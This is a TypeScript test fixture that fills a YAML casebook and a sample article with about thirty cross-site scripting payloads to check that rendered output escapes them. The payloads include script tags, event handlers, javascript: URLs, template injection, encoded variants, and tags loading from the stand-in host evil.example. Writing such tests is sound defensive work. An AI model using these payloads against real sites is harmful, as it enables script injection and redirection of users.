import { parse, stringify } from 'yaml';
import { SMALL } from '../casebook/small-casebook.ts';

/** Where a browser would call the attacker, were a field taken for markup. */
const call = (n: number) => `taken(${n})`;

/** Ways in which a text might be taken for more than a text; `data-taken` marks an element that must not come to be. */
const WAYS: readonly ((n: number) => string)[] = [
  (n) => `<script data-taken>${call(n)}</script>`,
  (n) => `<img src=x onerror=${call(n)} data-taken>`,
  (n) => `"><svg onload=${call(n)} data-taken>`,
  (n) => `'><b data-taken onmouseover=${call(n)}>bold</b>`,
  (n) => `javascript:${call(n)}`,
  (n) => `</title></head><body onload=${call(n)}><script data-taken>${call(n)}</script>`,
  (n) => `</script><script data-taken>${call(n)}</script>`,
  (n) => `--></style><i data-taken>x</i><script>${call(n)}</script>`,
  (n) => `]]><x data-taken onclick="${call(n)}"/>`,
  (n) => `{{constructor.constructor('${call(n)}')()}}`,
  (n) => `\${${call(n)}} #{${call(n)}} <%= ${call(n)} %>`,
  (n) => `<iframe srcdoc="<script>parent.${call(n)}</script>" data-taken></iframe>`,
  (n) => `<a href=javascript:${call(n)} data-taken>link</a>`,
  (n) => `[link](javascript:${call(n)}) ![x](x"onerror="${call(n)})`,
  (n) => `<math><mtext><mglyph><style><!--</style><img data-taken title="--><img src onerror=${call(n)}>">`,
  (n) => `&lt;script data-taken&gt;${call(n)}&lt;/script&gt;`,
  (n) => `&#60;img src=x onerror=${call(n)} data-taken&#62;`,
  (n) => `<style data-taken>*{background:url(http://evil.example/${n})}</style>`,
  (n) => `<meta data-taken http-equiv=refresh content="0;url=http://evil.example/${n}">`,
  (n) => `<base data-taken href=http://evil.example/${n}/>`,
  (n) => `<link data-taken rel=stylesheet href=http://evil.example/${n}.css>`,
  (n) => `<object data-taken data="javascript:${call(n)}"></object>`,
  (n) => `<details data-taken open ontoggle=${call(n)}>x</details>`,
  (n) => `<input data-taken autofocus onfocus=${call(n)}>`,
  (n) => `<svg><a xlink:href="javascript:${call(n)}" data-taken><text>x</text></a></svg>`,
  (n) => `<svg><foreignObject><body data-taken onload=${call(n)}></body></foreignObject></svg>`,
  (n) => `<svg><set data-taken attributeName=onmouseover to=${call(n)}></svg>`,
  (n) => `\u05d0\u05d1\u05d2 <img data-taken src=x onerror=${call(n)}> \u0627\u0628`,
  (n) => `\\u003cscript data-taken\\u003e${call(n)}\\u003c/script\\u003e \\x3cscript\\x3e`,
  (n) => `" onfocus=${call(n)} autofocus data-taken="`,
];

/** Keys of a casebook's files whose values are free text. */
const TEXTS = new Set(['name', 'title', 'publisher', 'place', 'summary', 'words', 'who', 'article', 'question', 'why']);

/** A casebook whose every free text is an attack. */
export interface MarkedCasebook {
  readonly files: Readonly<Record<string, string>>;
  readonly cases: readonly string[];
  /** How many fields are marked; each has its number in it, as `m12x`. */
  readonly fields: number;
}

/** So many marked-up fields, in as many cases, agreements and publishers as that takes. */
export function markedCasebook(wanted: number): MarkedCasebook {
  let fields = 0;
  const marked = (): string => {
    const n = fields;
    fields += 1;
    return `m${n}x ${(WAYS[n % WAYS.length] as (n: number) => string)(n)}`;
  };
  const mark = (value: unknown, key = ''): unknown => {
    if (Array.isArray(value)) return value.map((one) => mark(one, key));
    if (typeof value !== 'object' || value === null) return TEXTS.has(key) ? marked() : value;
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, mark(one, name)]));
  };
  const files: Record<string, string> = {};
  const cases: string[] = [];
  let actors: Record<string, unknown> = {};
  for (let i = 0; fields < wanted; i += 1) {
    for (const [path, text] of Object.entries(SMALL)) {
      // Each copy has ids of its own: of its case, agreement, actor and publishers.
      const own = text.replace(/\b(italy-1950|france-italy-1949|rebels|herald|tribune)\b/g, `$1-${i}`);
      const value = parse(own);
      if (path.startsWith('contingencies/'))
        Object.assign(value, { openQuestions: [{ question: 'Why?', sources: [`herald-${i}/one`] }] });
      const written = mark(value) as Record<string, unknown>;
      if (path === 'actors.yaml') actors = { ...actors, ...written };
      else files[path.replace(/\.yaml$/, `-${i}.yaml`)] = stringify(written);
    }
    cases.push(`italy-1950-${i}`);
  }
  return { files: { ...files, 'actors.yaml': stringify(actors) }, cases, fields };
}

/** An article whose every sentence is an attack beside a claim. */
export function markedArticle(): string {
  return WAYS.map(
    (way, n) => `Iran supplied drones to Russia m${n}x ${way(n)}. Russia refused to send troops to Iran.`,
  ).join('\n\n');
}
